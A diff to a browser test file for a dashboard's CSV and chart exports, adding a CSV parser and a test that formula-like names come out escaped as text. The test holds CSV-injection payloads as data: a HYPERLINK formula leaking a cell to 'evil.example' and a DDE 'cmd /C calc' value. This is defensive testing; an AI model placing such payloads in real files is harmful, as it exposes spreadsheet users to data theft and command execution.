@@ -1,11 +1,13 @@
 // Exports. CSV of the monthly rows: UTF-8 with a byte-order mark (so Excel reads Chinese),
 // one line per month, the tier names as columns, headers in the page's language, and the
-// figures the same as the page shows. Each chart as SVG and as PNG.
+// figures the same as the page shows; written by the core, so a name like a formula comes
+// out as text in every CSV the page downloads. Each chart as SVG and as PNG.
 
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
 import { launch, open, waitForRun, runs } from './helpers.mjs';
+import { smallScenario, tabsLink } from './study-fixtures.mjs';
 
 let browser;
 before(async () => { browser = await launch(); });
@@ -17,9 +19,23 @@ async function csvOf(page) {
   return readFile(await download.path());
 }
 
+/** The lines and cells of a CSV file after its BOM (RFC 4180 quoting). */
 function parse(bytes) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let quoted = false;
   const text = bytes.subarray(3).toString('utf8');
-  return text.trimEnd().split('\r\n').map((line) => line.split(','));
+  for (let i = 0; i < text.length; i += 1) {
+    const c = text[i];
+    if (quoted && c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; }
+    else if (c === '"' && (quoted || cell === '')) quoted = !quoted;
+    else if (quoted) cell += c;
+    else if (c === ',') { row.push(cell); cell = ''; }
+    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
+    else if (c !== '\r') cell += c;
+  }
+  return rows;
 }
 
 test('the CSV has a BOM, a row per month, tier columns and the page’s numbers', async () => {
@@ -56,6 +72,24 @@ test('in Chinese the CSV headers are Chinese and still open in Excel', async () 
   const [header] = parse(bytes);
   for (const col of ['月份', '活跃会员', '等级：Silver', '收入', '积分负债']) assert.ok(header.includes(col), `column ${col} in ${header.join('|')}`);
   await page.click('#lang');
+});
+
+test('a name like a formula downloads as text, never as a formula', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  const a = smallScenario(formula);
+  a.tiers.levels[2].name = '-2+3+cmd|\' /C calc\'!A0';
+  const { page, context } = await open(browser, `index.html${tabsLink([a, smallScenario('B')])}`);
+  await waitForRun(page);
+  const [header] = parse(await csvOf(page));
+  assert.ok(header.includes('Tier: -2+3+cmd|\' /C calc\'!A0'), header.join('|'));
+  await page.click('.view-tabs [data-view="compare"]');
+  await page.waitForFunction(() => Number(document.querySelector('#compare-view')?.dataset.compared || 0) > 0, null, { timeout: 30000 });
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="compare-csv"]')]);
+  const cells = parse(await readFile(await download.path())).flat();
+  assert.ok(cells.includes(`'${formula}`), 'the scenario’s name behind an apostrophe');
+  assert.ok(!cells.some((c) => /^[=+@\t\r\n]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)), 'no cell a spreadsheet would run');
+  assert.ok(cells.includes('Share in -2+3+cmd|\' /C calc\'!A0'), 'the tier named in the KPI');
+  await context.close();
 });
 
 test('a chart downloads as standalone SVG and as PNG', async () => {
